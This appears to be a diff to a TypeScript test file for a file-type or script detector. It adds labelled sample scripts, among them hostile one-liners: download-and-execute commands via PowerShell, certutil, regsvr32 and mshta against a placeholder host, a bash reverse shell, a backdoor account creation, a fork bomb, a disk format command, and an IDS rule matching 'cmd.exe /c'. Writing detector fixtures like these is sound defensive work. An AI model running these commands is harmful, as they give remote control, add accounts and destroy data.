@@ -40,6 +40,26 @@ const SCRIPTS: readonly (readonly [type: string, text: string])[] = [
     "$k=4;$d=@(1,2,3)|%{$_ -bxor $k};[System.Text.Encoding]::ASCII.GetString($d)|iex",
   ],
   ["application/x-powershell", "Start-Process calc.exe\r\n"],
+  ["application/x-powershell", "iwr http://a.example/a.ps1 -UseBasicParsing | iex"],
+  ["application/x-powershell", "(Get-WmiObject Win32_Process -List).Create('calc')"],
+  ["application/javascript", 'GetObject("script:http://a.example/a").Exec();'],
+  ["application/javascript", 'window.location.href = "http://a.example/"'],
+  ["text/x-msdos-batch", "net user evil P@ss /add"],
+  ["text/x-msdos-batch", "certutil -urlcache -split -f http://a.example/a.exe a.exe & a.exe"],
+  ["text/x-msdos-batch", "regsvr32 /s /n /u /i:http://a.example/a.sct scrobj.dll"],
+  ["text/x-msdos-batch", "mshta http://a.example/a.hta"],
+  ["text/x-msdos-batch", "%0|%0"],
+  ["text/x-msdos-batch", "format c: /y"],
+  ["text/x-msdos-batch", "wmic process call create calc.exe"],
+  ["text/x-python", 'import urllib2\nprint urllib2.urlopen("http://a.example").read()\n'],
+  ["text/x-shellscript", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"],
+  ["text/asp", '<%@ LANGUAGE="JScript" %>\n<% var x = 1; %>'],
+  ["text/x-jsp", "<%! int x = 1; %><%= x %>"],
+  ["application/hta", "<script language=JScript>new ActiveXObject('WScr' + 'ipt.Shell').Run('calc')</script>"],
+  [
+    "text/scriptlet",
+    '<package><component id="x"><script language="JScript">var a=1;</script></component></package>',
+  ],
   ["application/javascript", '// a\r\nvar x = WScript.CreateObject("WScript.Shell");\r\nx.Run("calc");\r\n'],
   ["application/javascript", "/* a */ eval(function(p,a,c,k,e,d){return p}('0',1,1,'a'.split('|'),0,{}))"],
   ["application/javascript", "var _0x1a2b=['a'];(function(_0x3c){return _0x3c;}(_0x1a2b));"],
@@ -114,6 +134,12 @@ const OTHER_TEXTS = [
   '<workflow><job id="1"><script>a.sh</script></job></workflow>',
   "import java.util.Set;\npublic class A {\n  Set<Class<? extends B>> all() { return null; }\n}\n",
   "====== Heading ======\n\nText of a wiki.\n",
+  "2024-01-01 process create: powershell.exe -nop -enc AAAA user=b\n2024-01-01 process create: cmd.exe /c whoami user=b\n",
+  "jobs:\n  a:\n    steps:\n      - shell: pwsh\n        run: |\n          Get-ChildItem\n          echo hi\n",
+  '[Version]\nSignature="$Windows NT$"\nClass=Net\n[DefaultInstall]\nCopyFiles=a.Copy\nAddReg=b.Reg\n',
+  'In Visual Basic you set an object with Set x = CreateObject("A"). If errors do not matter to you, On Error Resume Next is there.',
+  "CC=gcc\nall: a.o b.o\n\t$(CC) -o x $^\nclean:\n\trm -f *.o x\n.PHONY: all clean\n",
+  'alert tcp any any -> any any (msg:"x"; content:"cmd.exe /c"; sid:1;)',
 ];
 const SCRIPT_TYPES = new Set(SCRIPTS.map(([type]) => type));
 
@@ -282,7 +308,7 @@ describe("a text that begins like a magic number", () => {
   });
 
   it.each(
-    "BM MZ BZh CR24 Cr24 8BPS MSCF wvpk ID3 OTTO wOFF FWS CWS FLV MThd OggS RIFF PK Rar! LZIP SIT! ZOO GIF89a GIF87a fLaC FORM II* MM FLIF qoif icns BPG DICM hsqs KDMV !BDN ISc( xar! ALZ glTF SQLite QFI caff MP+ #!AMR .snd ttcf".split(
+    "BM MZ BZh CR24 Cr24 8BPS MSCF wvpk ID3 OTTO wOFF FWS CWS FLV MThd OggS RIFF PK Rar! LZIP SIT! ZOO GIF89a GIF87a fLaC FORM II* MM FLIF qoif icns BPG DICM hsqs KDMV !BDN ISc( xar! ALZ glTF SQLite QFI caff MP+ #!AMR .snd ttcf !<arch>".split(
       " ",
     ),
   )("has no type of pictures, sound, fonts or archives, in whatever encoding: %s", async (magic) => {
